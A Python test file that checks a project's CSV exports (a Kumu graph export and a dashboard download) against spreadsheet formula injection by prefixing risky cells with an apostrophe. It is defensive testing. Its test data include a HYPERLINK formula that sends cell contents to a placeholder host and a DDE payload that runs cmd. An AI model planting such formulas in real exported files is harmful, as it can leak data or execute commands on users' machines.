"""Spreadsheet-safe CSV: the shared function, and every CSV the product writes (Kumu export, dashboard download)."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from maillage.csv_safe import dicts_to_csv, frame_to_csv, safe_cell
from maillage.graph.export import to_kumu_csv
from maillage.graph.model import Actor, Evidence, Graph, Link

HOSTILE = ['=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquer")', "+33 1 23", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\tTabulé", "\rRetour"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_starting_with_a_formula_character_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Maison des entreprises", "", "x=1", 42, -0.5, -3, None])
def test_other_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_dict_rows_keep_negative_numbers_and_neutralise_text():
    rows = list(csv.reader(io.StringIO(dicts_to_csv([{"nom": "-Vallon", "score": -0.25}]), newline="")))
    assert rows == [["nom", "score"], ["'-Vallon", "-0.25"]]


def test_frame_neutralises_text_columns_and_names_but_not_numeric_columns():
    frame = pd.DataFrame({"nom": HOSTILE, "écart": [-1.5] * len(HOSTILE), "=colonne": ["ok"] * len(HOSTILE)})
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame), newline="")))
    assert rows[0] == ["nom", "écart", "'=colonne"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-1.5"}


def test_dashboard_download_is_safe_and_has_a_bom():
    from maillage.dashboard.ui import table_csv

    data = table_csv(pd.DataFrame({"Acteur": ["=1+1", "-x"], "Score": [-2, 3]}))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1:] == [["'=1+1", "-2"], ["'-x", "3"]]


def test_every_kumu_cell_starting_with_a_formula_character_is_neutralised(tmp_path):
    actors = {f"a{i}": Actor(f"a{i}", name, ["cluster"], aliases=[name]) for i, name in enumerate(HOSTILE)}
    links = {("a0", "PARTNER_OF", "a2"): Link("a0", "PARTNER_OF", "a2", [Evidence("doc")])}
    elements, connections = to_kumu_csv(Graph(actors=actors, links=links), tmp_path / "k")
    for path in (elements, connections):
        with path.open(encoding="utf-8", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], path
    with elements.open(encoding="utf-8", newline="") as fh:
        labels = [row[0] for row in csv.reader(fh)][1:]
    assert sorted(labels) == sorted("'" + name for name in HOSTILE)
